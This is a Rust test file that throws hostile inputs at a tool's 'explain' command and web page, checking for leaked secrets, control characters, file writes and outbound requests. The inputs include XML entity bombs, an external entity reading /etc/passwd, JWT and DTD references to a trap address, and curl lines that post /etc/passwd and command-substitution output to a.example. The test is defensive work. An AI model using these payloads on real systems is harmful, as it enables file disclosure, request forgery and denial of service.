//! Inputs that are made to hurt whoever reads them, given to the doctor by both doors: the command, and the page that keeps
//! running, whose greatest memory can therefore be read. Each is answered, within bounds, with nothing dangerous in it. The
//! kernel holds the command to its bounds: what takes more is ended by it. Not whether the answers are right.
//!
//! In full size, on what is shipped:
//! `cargo build --release && COUNTERSIGN_BIN=$PWD/target/release/countersign cargo test -p countersign-suites --test doctor_hostile`
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, reason = "tests")]

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use countersign_suites::client::{Wire, request_on};
use countersign_suites::gateway::{Folder, binary, program};
use serde_json::Value;
use std::io::{BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// The processor time that one input may take, in seconds. Time by the clock says more about what else the machine does.
const SECONDS: u64 = 5;
/// What a debug build gets is so many times smaller, since it needs so many times longer.
const DEBUG: usize = 8;
/// The most memory that any of them may take, in KiB.
const MEMORY: u64 = 256 * 1024;
/// Whoever writes into a file is ended; pipes and sockets are none.
const NO_WRITING: &str = "--fsize=0";
/// How long the page is waited for.
const PATIENCE: Duration = Duration::from_secs(120);
const SECRET: &str = "hunter2-is-secret";
/// 200 MiB of blanks, deflated a thousandfold.
const BOMB: &[u8] = include_bytes!("../vectors/doctor/bomb.deflate");

const MIB: usize = 1 << 20;
const LOGGED: &str = "10.0.0.1 - ann [10/Oct/2025:13:55:36 +0000] \"GET /api HTTP/1.1\" 401 12 \"-\" \"curl/8\"\n";

fn refused(head: &str, body: &str) -> Vec<u8> {
    format!("GET https://api.example.com/ HTTP/1.1\n{head}\n\nHTTP/1.1 401 Unauthorized\n{head}\n\n{body}").into_bytes()
}

fn jwt(header: &str, claims: &str) -> String {
    format!("{}.{}.c2ln", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims))
}

fn nested(open: &str, middle: &str, close: &str, depth: usize) -> String {
    format!("{}{middle}{}", open.repeat(depth), close.repeat(depth))
}

fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()
    };
    std::iter::repeat_with(&mut next).flatten().take(length).collect()
}

/// All of them, in full size divided by `by`. Where an address can stand that a reader could be led to, `trap` does.
fn hostile(trap: SocketAddr, by: usize) -> Vec<(&'static str, Vec<u8>)> {
    let of = |count: usize| count / by;
    let laughs: String = (1..10).map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10))).collect();
    let saml = |inside: &str| format!("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{inside}</samlp:Response>");
    let har = |entries: &str| format!("{{\"log\":{{\"version\":\"1.2\",\"entries\":[{entries}]}}}}");
    let entry = "{\"startedDateTime\":\"2023-11-15T01:13:20Z\",\"request\":{\"method\":\"GET\",\"url\":\"https://a.example/\",\"headers\":[]},\
                 \"response\":{\"status\":401,\"headers\":[],\"content\":{\"text\":\"x\"}}}";
    let bomb = STANDARD.encode(BOMB);
    vec![
        // Nothing, binary, and other encodings.
        ("nothing", Vec::new()),
        ("one byte", vec![0]),
        ("zeros", vec![0; of(8 * MIB)]),
        ("noise", noise(of(8 * MIB))),
        ("bytes that are no text", vec![0xff; of(8 * MIB)]),
        ("UTF-16", "\u{feff}HTTP/1.1 401".encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("a byte order mark", b"\xef\xbb\xbfHTTP/1.1 401 Unauthorized\n\n".to_vec()),
        ("gzip that ends", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x4b".to_vec()),
        ("an ELF file", [b"\x7fELF".to_vec(), noise(of(MIB))].concat()),
        // Large.
        ("one line", vec![b'a'; of(8 * MIB)]),
        ("blanks", vec![b' '; of(4 * MIB)]),
        ("empty lines", vec![b'\n'; of(MIB)]),
        ("carriage returns", vec![b'\r'; of(MIB)]),
        ("colons", vec![b':'; of(4 * MIB)]),
        ("quotes", vec![b'"'; of(4 * MIB)]),
        ("backslashes", vec![b'\\'; of(4 * MIB)]),
        ("separators", "###\n".repeat(of(MIB / 4)).into_bytes()),
        ("dots", vec![b'.'; of(4 * MIB)]),
        ("base64 of nothing known", vec![b'A'; of(8 * MIB)]),
        // Exchanges.
        ("many fields", refused(&"X-A: b\n".repeat(of(60_000)), "")),
        ("many credentials", refused(&format!("Authorization: Bearer {SECRET}\n").repeat(of(50_000)), "")),
        ("many challenges", refused(&format!("WWW-Authenticate: {}", "Basic realm=\"a\", ".repeat(of(100_000))), "")),
        ("an endless challenge", refused(&format!("WWW-Authenticate: Basic realm=\"{}", "\\\"".repeat(of(MIB))), "")),
        ("many cookies", refused(&format!("Cookie: {}", "a=b; ".repeat(of(60_000))), "")),
        ("a long field", refused(&format!("X-A: {}", "b".repeat(of(8 * MIB))), "")),
        ("a long name", refused(&format!("{}: b", "X".repeat(of(8 * MIB))), "")),
        ("many exchanges", "GET / HTTP/1.1\n\nHTTP/1.1 401 Unauthorized\n\n###\n".repeat(of(50_000)).into_bytes()),
        ("status lines alone", "HTTP/1.1 401 Unauthorized\n\n".repeat(of(200_000)).into_bytes()),
        ("odd statuses", b"HTTP/1.1 99999999999999999999 X\n\nHTTP/1.1 -1\n\nHTTP/1.1 401\n\n".to_vec()),
        ("a date far away", refused("Date: Fri, 31 Dec 99999999 23:59:59 GMT", "")),
        ("a retry after ages", refused("Retry-After: 99999999999999999999999", "")),
        ("escapes", refused("X-\u{1b}[2J: \u{1b}]52;c;aGFja2Vk\u{7}\nServer: \u{9b}31m\u{202e}", "\u{1b}[2J\u{1b}c")),
        ("a body of markup", refused("Content-Type: text/html", &nested("<div>", "401", "</div>", of(200_000)))),
        ("a long body", refused("Content-Type: application/json", &"a".repeat(of(8 * MIB)))),
        (
            "secrets everywhere",
            refused(&format!("Authorization: Basic {}\nX-Api-Key: {SECRET}", STANDARD.encode(format!("a:{SECRET}"))), ""),
        ),
        // JSON.
        ("nested lists", nested("[", "", "]", of(2_000_000)).into_bytes()),
        ("nested objects", nested("{\"a\":", "1", "}", of(1_000_000)).into_bytes()),
        ("open lists", vec![b'['; of(4 * MIB)]),
        ("a nested body", refused("Content-Type: application/json", &nested("{\"error\":", "1", "}", of(300_000)))),
        ("lone surrogates", b"{\"error\":\"\\ud800\\udc00\\ud800\",\"log\":{\"entries\":\"x\"}}".to_vec()),
        ("a number of many digits", format!("{{\"keys\":[{{\"kty\":\"RSA\",\"n\":{}}}]}}", "9".repeat(of(MIB))).into_bytes()),
        (
            "many keys",
            format!("{{\"keys\":[{}]}}", vec!["{\"kty\":\"RSA\",\"kid\":\"a\",\"n\":\"AQAB\",\"e\":\"AQAB\"}"; of(50_000)].join(",")).into_bytes(),
        ),
        ("the same member again", format!("{{{}\"issuer\":\"x\"}}", "\"issuer\":\"https://a.example\",".repeat(of(100_000))).into_bytes()),
        // HAR.
        ("a HAR of the wrong shape", b"{\"log\":{\"entries\":[[],1,null,{\"request\":[],\"response\":{\"status\":\"401\"}}]}}".to_vec()),
        ("a HAR that ends", har(&[entry; 3].join(",")).as_bytes()[..300].to_vec()),
        ("a HAR with many entries", har(&vec![entry; of(20_000)].join(",")).into_bytes()),
        ("a HAR with a bomb", har(&entry.replace("\"text\":\"x\"", &format!("\"encoding\":\"base64\",\"text\":\"{bomb}\""))).into_bytes()),
        ("a nested HAR", format!("{{\"log\":{}}}", nested("{\"entries\":[", "", "]}", of(300_000))).into_bytes()),
        // Tokens.
        ("a token of everything", jwt("{\"alg\":\"none\"}", &format!("{{\"a\":\"{}\"}}", "b".repeat(of(4 * MIB)))).into_bytes()),
        ("a nested token", jwt(&nested("{\"a\":", "1", "}", of(100_000)), &nested("[", "", "]", of(100_000))).into_bytes()),
        ("odd times", jwt("{\"alg\":\"RS256\"}", "{\"exp\":1e400,\"nbf\":-1e400,\"iat\":\"x\"}").into_bytes()),
        (
            "times far away",
            jwt("{\"alg\":\"RS256\"}", "{\"exp\":9223372036854775807,\"nbf\":-9223372036854775808,\"iat\":1e308}").into_bytes(),
        ),
        (
            "members of the wrong kind",
            jwt("{\"alg\":[],\"kid\":{},\"typ\":1}", "{\"exp\":[],\"aud\":{},\"iss\":1,\"scope\":[[[]]]}").into_bytes(),
        ),
        (
            "a token in a token",
            (0..12).fold("x".to_owned(), |inner, _| jwt("{\"cty\":\"JWT\"}", &format!("{{\"t\":\"{inner}\"}}"))).into_bytes(),
        ),
        (
            "escapes in a token",
            jwt("{\"alg\":\"RS256\",\"kid\":\"\\u001b[2J\"}", "{\"iss\":\"\\u001b]0;x\\u0007\\u202e\",\"exp\":1}").into_bytes(),
        ),
        ("five dots", format!("{}.....", "a".repeat(of(MIB))).into_bytes()),
        // SAML and other XML.
        ("a billion laughs", format!("<!DOCTYPE r [<!ENTITY l0 \"ha\">{laughs}]>{}", saml("&l9;")).into_bytes()),
        ("a quadratic entity", format!("<!DOCTYPE r [<!ENTITY a \"{}\">]>{}", "a".repeat(of(MIB)), saml(&"&a;".repeat(of(100_000)))).into_bytes()),
        ("a foreign entity", format!("<!DOCTYPE r [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>{}", saml("&a;")).into_bytes()),
        ("nested elements", saml(&nested("<a>", "", "</a>", of(500_000))).into_bytes()),
        ("open elements", saml(&"<a>".repeat(of(MIB))).into_bytes()),
        ("many attributes", saml(&format!("<a {}/>", (0..of(100_000)).map(|at| format!("a{at}=\"b\" ")).collect::<String>())).into_bytes()),
        (
            "many name spaces",
            saml(&format!("<a {}/>", (0..of(100_000)).map(|at| format!("xmlns:a{at}=\"b\" ")).collect::<String>())).into_bytes(),
        ),
        ("many prefixes", saml(&nested("<a xmlns:b=\"c\">", "<b:d/>", "</a>", of(50_000))).into_bytes()),
        ("a comment without end", saml(&format!("<!--{}", "-".repeat(of(4 * MIB)))).into_bytes()),
        ("a bomb", bomb.clone().into_bytes()),
        (
            "a bomb in a redirect",
            format!("https://sp.example/acs?SAMLRequest={}", bomb.replace('+', "%2B").replace('/', "%2F")).into_bytes(),
        ),
        ("a bomb in a form", format!("SAMLResponse={}", bomb.replace('+', "%2B")).into_bytes()),
        // Commands and configurations.
        ("a quote without end", format!("curl 'https://a.example/{}", "a".repeat(of(4 * MIB))).into_bytes()),
        ("many arguments", format!("curl https://a.example/ {}", "-H 'A: b' ".repeat(of(200_000))).into_bytes()),
        ("many lines", format!("curl https://a.example/ {}", "\\\n".repeat(of(MIB))).into_bytes()),
        (
            "files and programs",
            b"curl -d @/etc/passwd -K /etc/passwd -u \"$(cat /etc/passwd)\" `cat /etc/passwd` https://a.example/".to_vec(),
        ),
        ("open blocks", "server {\n".repeat(of(500_000)).into_bytes()),
        ("nested tables", format!("[{}]\nlisten = 1", vec!["a"; of(100_000)].join(".")).into_bytes()),
        ("a long URL", format!("https://a.example/?{}", "a=b&".repeat(of(MIB))).into_bytes()),
        ("a URL of nothing", b"https://user:hunter2-is-secret@[::1]:99999/%zz?%&=&access_token=hunter2-is-secret#".to_vec()),
        // Addresses that nobody may ask because an input names them.
        (
            "a token that names keys",
            jwt(&format!("{{\"alg\":\"RS256\",\"jku\":\"http://{trap}/k\",\"x5u\":\"http://{trap}/c\"}}"), &format!("{{\"iss\":\"http://{trap}\"}}")).into_bytes(),
        ),
        (
            "an answer that names addresses",
            refused(&format!("Location: http://{trap}/a\nLink: <http://{trap}/b>; rel=next\nWWW-Authenticate: Bearer realm=\"http://{trap}/c\", resource_metadata=\"http://{trap}/d\""), ""),
        ),
        ("metadata that names addresses", format!("{{\"issuer\":\"http://{trap}\",\"jwks_uri\":\"http://{trap}/k\",\"authorization_endpoint\":\"http://{trap}/a\"}}").into_bytes()),
        ("a DTD from elsewhere", format!("<!DOCTYPE r SYSTEM \"http://{trap}/d\" [<!ENTITY % a SYSTEM \"http://{trap}/e\">%a;]>{}", saml("")).into_bytes()),
        ("a command that asks", format!("curl -x http://{trap} -d \"$(curl http://{trap}/)\" http://{trap}/").into_bytes()),
        ("a HAR that names addresses", har(&entry.replace("https://a.example/", &format!("http://{trap}/"))).into_bytes()),
        // The same few bytes, over and over.
        ("names of parameters", "SAMLResponse=".repeat(of(300_000)).into_bytes()),
        ("beginnings of tokens", "eyJhbGci.".repeat(of(400_000)).into_bytes()),
        ("tokens in a body", refused("Content-Type: text/plain", &format!("{} ", jwt("{\"alg\":\"RS256\"}", "{\"exp\":1}")).repeat(of(40_000)))),
        ("schemes in a body", refused("Content-Type: text/plain", &"Bearer ".repeat(of(MIB / 2)))),
        ("passwords in a body", refused("Content-Type: text/plain", &format!("password={SECRET}&").repeat(of(100_000)))),
        ("open comments", saml(&"<!--".repeat(of(MIB))).into_bytes()),
        ("open sections", saml(&"<![CDATA[".repeat(of(400_000))).into_bytes()),
        ("references to letters", saml(&"&#x41;".repeat(of(500_000))).into_bytes()),
        ("a page of references", refused("Content-Type: text/html", &"&amp;&#60;".repeat(of(400_000)))),
        ("a page of open tags", refused("Content-Type: text/html", &"<a href=".repeat(of(500_000)))),
        ("a page of scripts", refused("Content-Type: text/html", &"<script>".repeat(of(500_000)))),
        ("escapes in a target", format!("GET https://a.example/{} HTTP/1.1\n\nHTTP/1.1 401 Unauthorized\n\n", "%25".repeat(of(MIB))).into_bytes()),
        ("open variables", format!("###\nGET https://{} HTTP/1.1\n\nHTTP/1.1 401 Unauthorized\n\n", "{{a".repeat(of(MIB))).into_bytes()),
        ("remarks", "* a\n> b\n< c\n".repeat(of(300_000)).into_bytes()),
        ("open substitutions", format!("curl {}", "$(".repeat(of(MIB))).into_bytes()),
        ("commands after commands", "curl https://a.example/ | ".repeat(of(100_000)).into_bytes()),
        ("parameters of a challenge", refused(&format!("WWW-Authenticate: Digest {}", "nonce=a, ".repeat(of(200_000))), "")),
        ("cookies that are set", refused(&"Set-Cookie: a=b; Path=/; Expires=Wed, 21 Oct 2015 07:28:00 GMT\n".repeat(of(40_000)), "")),
        ("redirects", "GET https://a.example/ HTTP/1.1\n\nHTTP/1.1 302 Found\nLocation: https://b.example/\n\n###\n".repeat(of(20_000)).into_bytes()),
        ("preflights", "OPTIONS https://a.example/ HTTP/1.1\nOrigin: https://b.example\n\nHTTP/1.1 403 Forbidden\n\n".repeat(of(20_000)).into_bytes()),
        ("credentials that are all different", (0..of(20_000)).map(|at| format!("GET /{at} HTTP/1.1\nAuthorization: Bearer secret-number-{at}\n\nHTTP/1.1 401 Unauthorized\n\nsecret-number-{at}\n\n")).collect::<String>().into_bytes()),
        ("blocks in blocks", format!("server {{\n{}}}\n", nested("location / {\n", "proxy_pass http://a;\n", "}\n", of(100_000))).into_bytes()),
        ("directives", format!("server {{\n{}}}\n", "proxy_set_header Authorization \"\";\n".repeat(of(100_000))).into_bytes()),
        ("sections of Apache", nested("<Location \"/\">\n", "Require all denied\n", "</Location>\n", of(50_000)).into_bytes()),
        // Logs.
        ("a log line without end", format!("{LOGGED}{}", "a".repeat(of(8 * MIB))).into_bytes()),
        ("a log of clients", (0..of(200_000)).map(|at| LOGGED.replace("10.0.0.1", &format!("10.{}.{}.{}", at >> 16, at >> 8 & 255, at & 255))).collect::<String>().into_bytes()),
        ("a log of routes", (0..of(100_000)).map(|at| LOGGED.replace("/api", &format!("/{at}/{}", "a".repeat(at % 100)))).collect::<String>().into_bytes()),
        ("a log of all times", (0..of(100_000)).map(|at| LOGGED.replace("2025", &format!("{:04}", at % 10_000))).collect::<String>().into_bytes()),
        ("escapes in a log", LOGGED.replace("/api", "/\u{1b}[2J\u{202e}\u{9b}31m").repeat(100).into_bytes()),
        ("secrets in a log", LOGGED.replace("/api", &format!("/api?token={SECRET}&password={SECRET}")).repeat(100).into_bytes()),
        ("a nested log", format!("{{\"status\":401,\"a\":{}}}\n", nested("[", "", "]", of(10_000))).repeat(100).into_bytes()),
    ]
}

/// What is dangerous in an answer.
fn faults(name: &str, text: &str) -> Vec<String> {
    let harmful = |c: char| c.is_control() && c != '\n' && c != '\t' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let shown = || text.chars().take(1000).collect::<String>();
    let mut faults = Vec::new();
    if text.contains(harmful) {
        faults.push(format!("{name}: a control character in {:?}", shown()));
    }
    for absent in [SECRET, "root:", "panicked"] {
        if text.contains(absent) {
            faults.push(format!("{name}: {absent} in {}", shown()));
        }
    }
    if text.is_empty() || text.len() > MIB {
        faults.push(format!("{name}: {} bytes of answer", text.len()));
    }
    faults
}

/// The program under bounds of the kernel's: it ends what takes more.
fn bounded(arguments: &[&str], bounds: &[String]) -> Command {
    let plain = program(arguments);
    let mut command = Command::new("prlimit");
    command.args(bounds).arg(plain.get_program()).args(plain.get_args());
    for (name, value) in plain.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    command
}

/// The inputs in the size that fits the program that is tested.
fn fitting(trap: &TcpListener) -> Vec<(&'static str, Vec<u8>)> {
    let is_debug = binary().components().any(|part| part.as_os_str() == "debug");
    hostile(trap.local_addr().unwrap(), if is_debug { DEBUG } else { 1 })
}

/// A place where nobody may come.
fn trap() -> TcpListener {
    let trap = TcpListener::bind("127.0.0.1:0").unwrap();
    trap.set_nonblocking(true).unwrap();
    trap
}

#[test]
fn t125_there_are_enough_of_them() {
    let inputs = fitting(&trap());
    let names: std::collections::BTreeSet<_> = inputs.iter().map(|(name, _)| name).collect();
    assert!(names.len() == inputs.len() && inputs.len() >= 72, "{}", inputs.len());
}

#[test]
fn t125_the_command_answers() {
    let (folder, trap) = (Folder::new(), trap());
    let bounds = [format!("--data={}", MEMORY * 1024), format!("--cpu={SECONDS}"), NO_WRITING.to_owned()];
    let mut found = Vec::new();
    for (name, bytes) in fitting(&trap) {
        let mut child = bounded(&["explain", "-"], &bounds)
            .env("HOME", folder.path())
            .current_dir(folder.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let writer = std::thread::spawn(move || drop(stdin.write_all(&bytes)));
        let output = child.wait_with_output().unwrap();
        writer.join().unwrap();
        if !matches!(output.status.code(), Some(0..=3)) {
            found.push(format!("{name}: {:?}", output.status));
        }
        let said = [output.stdout, output.stderr].concat();
        found.extend(faults(name, str::from_utf8(&said).unwrap()));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0, "something was written");
    assert!(trap.accept().is_err(), "an address in an input was asked");
}

struct Web(Child);

impl Drop for Web {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Web {
    fn memory(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.0.id())).unwrap();
        let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap();
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    }
}

#[test]
fn t125_the_page_answers_and_stays_small() {
    let (folder, trap) = (Folder::new(), trap());
    let mut command = bounded(&["explain", "--web", "--json"], &[NO_WRITING.to_owned()]);
    let child = command.env("HOME", folder.path()).stdin(Stdio::null()).stdout(Stdio::piped()).spawn().unwrap();
    let mut web = Web(child);
    let mut line = String::new();
    BufReader::new(web.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let ready: Value = serde_json::from_str(&line).unwrap();
    let (at, path) = ready["url"].as_str().unwrap().strip_prefix("http://").unwrap().split_once('/').unwrap();
    let at: SocketAddr = at.parse().unwrap();
    let (mut found, mut most) = (Vec::new(), 0);
    for (name, bytes) in fitting(&trap) {
        let mut wire = Wire::connect(at);
        wire.patience(PATIENCE);
        let answer = request_on(&mut wire, &at.to_string(), "POST", &format!("/{path}"), &[], &bytes);
        if !matches!(answer.status, 200 | 422) {
            found.push(format!("{name}: {}", answer.status));
        }
        found.extend(faults(name, &answer.text()));
        let memory = web.memory();
        if memory > most.max(MEMORY) {
            found.push(format!("{name}: {memory} KiB"));
        }
        most = most.max(memory);
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
    assert!(trap.accept().is_err(), "an address in an input was asked");
}
